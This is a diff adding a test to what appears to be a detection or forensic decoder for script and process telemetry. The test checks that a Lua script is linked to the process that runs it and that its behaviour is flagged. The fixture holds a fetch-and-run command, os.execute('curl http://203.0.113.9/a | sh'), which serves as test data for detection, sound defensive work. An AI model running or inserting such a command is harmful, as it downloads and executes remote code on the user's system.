@@ -105,3 +105,21 @@ def test_lua_that_hides_a_name_shows_it_to_the_rules() -> None:
     )
     assert made is not None
     assert 'os.execute("id")' in str(made.row(0)["XScriptText"])
+
+
+def test_a_lua_process_carries_what_its_script_does() -> None:
+    script = {
+        "XScriptText": "os.execute('curl http://203.0.113.9/a | sh')", "XScriptLanguage": "lua", "ActionType": "ScriptFile",
+        "FileName": "Update.lua", "FolderPath": "/evidence/tmp/Update.lua",
+    }  # fmt: skip
+    decoder = Decoder()
+    decoder.rows_of(table("XScriptEvents", script))
+    found = decoder.analysis_of("DeviceProcessEvents", {"ProcessCommandLine": "lua5.1 /tmp/update.lua now"})
+    assert found is not None
+    assert "shell-download" in {one.id for one in found.capabilities}
+    (layer,) = [one for one in found.layers if one.kind == "script-file"]
+    assert found.text[layer.start : layer.end] == "/tmp/update.lua"
+    assert layer.note == "read from /evidence/tmp/Update.lua"
+    assert any(one.value == "http://203.0.113.9/a" and found.layers[one.layer].text for one in found.indicators)
+    other = decoder.analysis_of("DeviceProcessEvents", {"ProcessCommandLine": "cat /tmp/update.lua"})
+    assert other is not None and not [one for one in other.layers if one.kind == "script-file"]
